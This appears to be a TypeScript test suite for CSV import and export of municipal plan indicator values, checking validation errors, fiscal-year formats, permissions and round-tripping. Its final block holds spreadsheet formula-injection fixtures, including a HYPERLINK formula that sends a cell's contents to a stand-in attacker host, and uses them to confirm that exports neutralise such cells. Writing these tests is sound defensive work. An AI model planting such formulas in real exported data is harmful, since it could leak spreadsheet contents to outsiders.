import { parse } from 'csv-parse/sync';
import { startTestApp, type TestApp } from '../support/app';
import { code, setUpActuals, type Actuals } from '../support/actuals';

// Bulk actuals: CSV import (dry run, all-or-nothing, per-row errors) and export, round-tripping.

let app: TestApp;
let a: Actuals;

const IMPORT = `mutation($csv: String!, $dryRun: Boolean) { importActuals(csv: $csv, dryRun: $dryRun) {
  dryRun applied rows created revised unchanged errors { line column code message } } }`;
const EXPORT = `query($drafts: Boolean) { exportActuals(planCode: "arakawa", includeDrafts: $drafts) }`;

interface Report {
  dryRun: boolean;
  applied: boolean;
  rows: number;
  created: number;
  revised: number;
  unchanged: number;
  errors: { line: number; column: string | null; code: string; message: string }[];
}

async function importCsv(csv: string, dryRun: boolean, token = a.tokens.editor): Promise<Report> {
  const res = await app.gqlAs<{ importActuals: Report }>(token, IMPORT, { csv, dryRun });
  if (res.errors) throw new Error(JSON.stringify(res.errors));
  return res.data!.importActuals;
}

async function exportCsv(token?: string): Promise<string> {
  const res = token
    ? await app.gqlAs<{ exportActuals: string }>(token, EXPORT, { drafts: true })
    : await app.gql<{ exportActuals: string }>(EXPORT, { drafts: false });
  if (res.errors) throw new Error(JSON.stringify(res.errors));
  return res.data!.exportActuals;
}

const byName = [
  'plan_code,indicator_name,fiscal_year,value,note',
  'arakawa,区政に関心がある区民の割合,2021,54.8%,世論調査',
  'arakawa,"ホームページ訪問回数 (月平均)",2021,"340,000回",',
].join('\n');

beforeAll(async () => {
  app = await startTestApp();
  a = await setUpActuals(app);
});
afterAll(async () => {
  await app?.close();
});

describe('importActuals', () => {
  it('needs a token', async () => {
    const res = await app.gql(IMPORT, { csv: byName, dryRun: true });
    expect(code(res)).toBe('UNAUTHENTICATED');
  });

  it('validates in a dry run and writes nothing', async () => {
    const before = await a.revisionCount();
    expect(await importCsv(byName, true)).toEqual({
      dryRun: true,
      applied: false,
      rows: 2,
      created: 2,
      revised: 0,
      unchanged: 0,
      errors: [],
    });
    expect(await a.revisionCount()).toBe(before);
  });

  it('writes every row in one transaction', async () => {
    const before = await a.revisionCount();
    expect(await importCsv(byName, false)).toMatchObject({ applied: true, created: 2, errors: [] });
    expect(await a.revisionCount()).toBe(before + 2);
  });

  it('reports every bad row with its line and writes none of the rows', async () => {
    const before = await a.revisionCount();
    const csv = [
      'plan_code,indicator_name,fiscal_year,value,note',
      'arakawa,経常収支比率,2021,88.0%,',
      'arakawa,経常収支比率,2022,88件,',
      'arakawa,存在しない指標,2021,1件,',
      'arakawa,経常収支比率,2040,80%,',
      'arakawa,区政に関心がある区民の割合,2021,55.0%,',
    ].join('\n');
    const report = await importCsv(csv, false);
    expect(report.applied).toBe(false);
    expect(report.errors.map((e) => [e.line, e.column, e.code])).toEqual([
      [3, 'value', 'UNIT_MISMATCH'],
      [4, 'indicator_name', 'NOT_FOUND'],
      [5, 'fiscal_year', 'FISCAL_YEAR_OUTSIDE_PLAN'],
      [6, 'expected_revision', 'CONFLICT'],
    ]);
    // Messages speak of the CSV's columns, and an unknown name gets the closest names of the plan.
    expect(report.errors[3].message).toContain('expected_revision');
    expect(report.errors[3].message).not.toContain('expectedRevision');
    expect(report.errors[1].message).toBe('No indicator named 「存在しない指標」 in plan "arakawa".');
    const typo = await importCsv('plan_code,indicator_name,fiscal_year,value\narakawa,経常収支率,2021,88.0%', true);
    expect(typo.errors[0].message).toContain('Did you mean 「経常収支比率」');
    expect(await a.revisionCount()).toBe(before);
  });

  it('reads fiscal_year as 2021, FY2021, R3, 令和3年度 or full-width digits, and refuses a bare era year', async () => {
    const cells = ['2021', 'FY2021', 'R3', '令和3年度', '２０２１', '2021年度'];
    const csv = [
      'plan_code,indicator_name,fiscal_year,value',
      ...cells.map((year, i) => `arakawa,区政に関心がある区民の割合,${year},5${i}.0%`),
    ].join('\n');
    const report = await importCsv(csv, true);
    // Every spelling is the same year: the rows after the first are duplicates of it, not unreadable years.
    expect(report.errors.filter((e) => e.column === 'fiscal_year' && e.code === 'BAD_USER_INPUT')).toEqual([]);
    expect(report.errors.map((e) => e.line)).toEqual(expect.arrayContaining([3, 4, 5, 6, 7]));
    const single = await importCsv(
      'plan_code,indicator_name,fiscal_year,value\narakawa,経常収支比率,令和4年度,88.0%',
      true,
    );
    expect(single).toMatchObject({ rows: 1, created: 1, errors: [] });
    for (const bad of ['3', 'abc', 'R', '令和']) {
      const r = await importCsv(`plan_code,indicator_name,fiscal_year,value\narakawa,経常収支比率,${bad},88.0%`, true);
      expect(r.errors.map((e) => [e.column, e.code])).toEqual([['fiscal_year', 'BAD_USER_INPUT']]);
      expect(r.errors[0].message).toContain('R3 or 令和3年度');
    }
  });

  it('refuses unreadable CSV and unknown columns as a whole', async () => {
    const broken = await app.gqlAs(a.tokens.editor, IMPORT, {
      csv: 'indicator_id,fiscal_year,value\n"unclosed,2021,1',
      dryRun: true,
    });
    expect(code(broken)).toBe('BAD_USER_INPUT');
    const unknown = await app.gqlAs(a.tokens.editor, IMPORT, {
      csv: 'indicator_id,fiscal_year,value,colour\n',
      dryRun: true,
    });
    expect(code(unknown)).toBe('BAD_USER_INPUT');
    expect(unknown.errors![0].message).toContain('colour');
  });

  it('applies token scope row by row', async () => {
    const report = await importCsv(byName.replace(/2021/g, '2022'), false, a.tokens.scoped);
    expect(report.applied).toBe(false);
    expect(report.errors.map((e) => e.code)).toEqual(['FORBIDDEN', 'FORBIDDEN']);
  });
});

describe('exportActuals', () => {
  it('round-trips: export → edit → import revises only the edited row; an unedited export changes nothing', async () => {
    const exported = await exportCsv(a.tokens.editor);
    const rows = parse(exported, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0])).toEqual([
      'indicator_id',
      'plan_code',
      'indicator_name',
      'fiscal_year',
      'value',
      'note',
      'expected_revision',
    ]);
    expect(rows.map((r) => [r.indicator_name, r.fiscal_year, r.value, r.note, r.expected_revision])).toEqual([
      ['区政に関心がある区民の割合', '2021', '54.8%', '世論調査', '1'],
      ['ホームページ訪問回数 (月平均)', '2021', '340,000回', '', '1'],
    ]);

    const before = await a.revisionCount();
    expect(await importCsv(exported, false)).toMatchObject({ applied: true, created: 0, revised: 0, unchanged: 2 });
    expect(await a.revisionCount()).toBe(before);

    const edited = exported.replace('340,000回', '341,000回');
    expect(await importCsv(edited, false)).toMatchObject({ applied: true, revised: 1, unchanged: 1 });
    const again = parse(await exportCsv(a.tokens.editor), { columns: true }) as Record<string, string>[];
    expect(again[1]).toMatchObject({ value: '341,000回', expected_revision: '2' });
  });

  it('shows the public approved values only', async () => {
    expect((await exportCsv()).trim()).toBe(
      'indicator_id,plan_code,indicator_name,fiscal_year,value,note,expected_revision',
    );
    await a.approved('経常収支比率', 2023, '84.0%');
    const rows = parse(await exportCsv(), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => [r.indicator_name, r.value])).toEqual([['経常収支比率', '84.0%']]);
  });
});

describe('exportActuals in a spreadsheet', () => {
  // Notes a spreadsheet would run as formulas, and notes that already start with the guard quote.
  const notes = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+1',
    '-x',
    '@SUM(A1)',
    '\tTab-led',
    '\rCR-led',
    "'=already quoted",
    "'plain quote",
  ];
  const years = [
    ['経常収支比率', 2022],
    ['経常収支比率', 2024],
    ['経常収支比率', 2025],
    ['経常収支比率', 2026],
    ['区政に関心がある区民の割合', 2022],
    ['区政に関心がある区民の割合', 2023],
    ['区政に関心がある区民の割合', 2024],
    ['区政に関心がある区民の割合', 2025],
  ] as const;

  async function notesNow(): Promise<string[]> {
    const out: string[] = [];
    for (const [name, year] of years) {
      const [row] = (await app.db.dataSource.query(
        `SELECT r.note FROM actual a JOIN actual_revision r ON r.actual_id = a.id AND r.revision = a.revision
           JOIN indicator i ON i.id = a.indicator_id JOIN plan p ON p.id = a.plan_id
          WHERE p.code = 'arakawa' AND i.name = $1 AND a.fiscal_year = $2`,
        [name, year],
      )) as { note: string }[];
      out.push(row.note);
    }
    return out;
  }

  it('neutralises formula cells, and the import restores them exactly', async () => {
    for (const [i, [name, year]] of years.entries()) {
      const res = await a.record(a.tokens.editor, name, year, i < 4 ? '85.0%' : '50.0%', { note: notes[i] });
      expect(res.errors).toBeUndefined();
    }
    const exported = await exportCsv(a.tokens.editor);
    // Opened as a spreadsheet would: every cell as written, nothing trimmed.
    const cells = (parse(exported, { columns: true }) as Record<string, string>[]).map((r) => r.note);
    for (const note of notes.slice(0, 7)) {
      expect(cells).toContain(`'${note}`);
      expect(exported).toContain(`"'${note.replace(/"/g, '""')}"`);
    }
    expect(cells).toContain("'plain quote");
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);

    // Unchanged on re-import: every stripped cell equals the stored note.
    const before = await a.revisionCount();
    const again = await importCsv(exported, false);
    expect(again).toMatchObject({ applied: true, created: 0, revised: 0, errors: [] });
    expect(await a.revisionCount()).toBe(before);

    // Edited values, the same notes: the notes come back as they were recorded.
    const edited = exported.replace(/,85\.0%,/g, ',84.0%,').replace(/,50\.0%,/g, ',51.0%,');
    expect(await importCsv(edited, false)).toMatchObject({ applied: true, revised: 8, errors: [] });
    expect(await notesNow()).toEqual(notes);
  });
});
